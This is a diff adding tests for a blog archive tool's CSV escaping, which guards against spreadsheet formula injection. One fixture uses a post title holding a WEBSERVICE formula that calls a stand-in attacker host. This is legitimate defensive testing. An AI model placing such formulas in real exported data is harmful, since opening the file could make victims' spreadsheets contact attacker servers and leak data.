@@ -1,11 +1,15 @@
 """Exports that are safe to render and fail in one line (issue 13): text the blog escaped
-stays text in Markdown, and a disk that will not take the file is an error, not a
-traceback."""
+stays text in Markdown, a CSV cell is never a spreadsheet formula, and a disk that will
+not take the file is an error, not a traceback."""
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
+import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -16,9 +20,10 @@ from markdown_it import MarkdownIt
 
 from archive import export
 from archive.connection import open_archive
-from archive.escaping import markdown_text
+from archive.escaping import FORMULA_STARTS, markdown_text, spreadsheet_cell
 from archive.posts import upsert_post
 from goahead_crawler.cli import cli
+from tests.conftest import invoke_goahead
 from tests.test_export import post
 
 RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render
@@ -81,3 +86,62 @@ def test_export_to_a_full_disk_is_one_line(tmp_path: Path, fmt: str) -> None:
                                       fmt, "--out", out])
     assert result.exit_code == 1
     assert result.output == f"Error: cannot write {out}: No space left on device\n"
+
+
+# -- spreadsheet formulas (CWE-1236) -------------------------------------------------------
+@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
+def test_each_formula_start_gets_the_text_mark(start):
+    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
+
+
+@pytest.mark.parametrize("value", ["ข่าว", "", " =1+1", "'=1+1", "1-2", 7, None, 1.5])
+def test_anything_else_is_as_it_was(value):
+    assert spreadsheet_cell(value) == value
+
+
+@given(st.text())
+def test_no_cell_starts_a_formula_and_the_text_is_kept(value):
+    cell = spreadsheet_cell(value)
+    assert cell[:1] not in FORMULA_STARTS
+    assert cell in (value, "'" + value)
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None,
+                    reason="LibreOffice (soffice) is not installed: the import is not tried")
+def test_libreoffice_runs_the_raw_cell_and_not_the_marked_one(tmp_path: Path):
+    """What the mark is for, in a real spreadsheet: LibreOffice Calc imports the file and
+    writes it back as CSV, with what each cell evaluated to."""
+    formula = '=CONCATENATE("ran","!")'
+    raw, marked = formula, spreadsheet_cell(formula)
+    source = tmp_path / "cells.csv"
+    source.write_text(f'raw,marked\r\n"{raw.replace(chr(34), 2 * chr(34))}",'
+                      f'"{marked.replace(chr(34), 2 * chr(34))}"\r\n', encoding="utf-8")
+    out = tmp_path / "out"
+    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
+                    str(out), str(source)], check=True, capture_output=True, timeout=120)
+    evaluated = (out / "cells.csv").read_text(encoding="utf-8").splitlines()[1]
+    assert evaluated.startswith("ran!,")  # the raw cell ran
+    assert "CONCATENATE" in evaluated.split(",", 1)[1]  # the marked one is text
+
+
+def test_both_csv_commands_write_formulas_as_text_unless_raw(tmp_path: Path):
+    db_path = tmp_path / "a.db"
+    db = open_archive(db_path)
+    upsert_post(db, post("1", title="=WEBSERVICE(\"http://evil.example/\")", text="ผ้า ทอ"))
+    db.close()
+    title = "=WEBSERVICE(\"http://evil.example/\")"
+    for command in (["export", "--format", "csv"], ["search", "ผ้า", "--csv"]):
+        for raw, expected in (([], "'" + title), (["--raw-csv"], title)):
+            result = invoke_goahead(*command, *raw, "--db", str(db_path))
+            assert result.returncode == 0, result.stderr
+            row = next(csv.DictReader(io.StringIO(result.stdout)))
+            assert row["title"] == expected, (command, raw)
+
+
+def test_raw_csv_without_csv_is_one_line_exit_2(tmp_path: Path):
+    db_path = tmp_path / "a.db"
+    open_archive(db_path).close()
+    result = invoke_goahead("search", "ผ้า", "--raw-csv", "--db", str(db_path))
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr == "Error: --raw-csv is for --csv\n"
